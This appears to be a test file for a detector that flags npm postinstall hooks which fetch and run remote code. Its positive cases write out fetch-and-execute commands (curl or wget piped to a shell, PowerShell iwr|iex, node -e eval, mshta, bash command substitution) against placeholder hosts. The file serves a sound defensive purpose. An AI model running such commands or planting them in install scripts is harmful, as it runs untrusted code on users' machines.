import { examine } from '../../../test/examine.ts';
import { fetchesAndRunsAtInstall } from './fetches-and-runs-at-install.ts';

const hook = (command: string): { 'package.json': object } => ({ 'package.json': { scripts: { postinstall: command } } });

examine(fetchesAndRunsAtInstall, {
  speaks: [
    { when: 'a script is piped into a shell', files: hook('curl -fsSL https://a.invalid/i.sh | sh'), weight: 'strong' },
    { when: 'wget pipes into bash with sudo', files: hook('wget -qO- https://a.invalid/i | sudo bash -s -- -y') },
    { when: 'the host is a bare address', files: hook('curl http://203.0.113.7/i | sh'), weight: 'proof' },
    {
      when: 'a download is saved, made executable and run',
      files: hook('curl -o /tmp/x https://a.invalid/x && chmod +x /tmp/x && /tmp/x'),
    },
    { when: 'the shell is hidden in sh -c', files: hook(`sh -c "curl https://a.invalid/i | sh"`) },
    { when: 'PowerShell does it', files: hook('powershell -c "iwr https://a.invalid/i.ps1 | iex"') },
    {
      when: 'node -e does it',
      files: hook(`node -e "require('https').get('https://a.invalid', r => r.on('data', d => eval(String(d))))"`),
    },
    { when: 'mshta runs an address', files: hook('mshta https://a.invalid/x.hta') },
    { when: 'the command is substituted', files: hook('bash -c "$(curl -fsSL https://a.invalid/i)"') },
  ],
  silent: [
    { when: 'native code is built', files: hook('node-gyp rebuild') },
    { when: 'a packaged script runs', files: { ...hook('node install.js'), 'install.js': '' } },
    { when: 'a prebuilt binary is looked for', files: hook('prebuild-install || node-gyp rebuild') },
    { when: 'a file is downloaded and kept', files: hook('curl -o data.json https://a.invalid/data.json') },
    { when: 'a text mentions it', files: hook('echo "curl https://a.invalid/i | sh"') },
    { when: 'only a development script does it', files: { 'package.json': { scripts: { setup: 'curl https://a.invalid | sh' } } } },
  ],
});
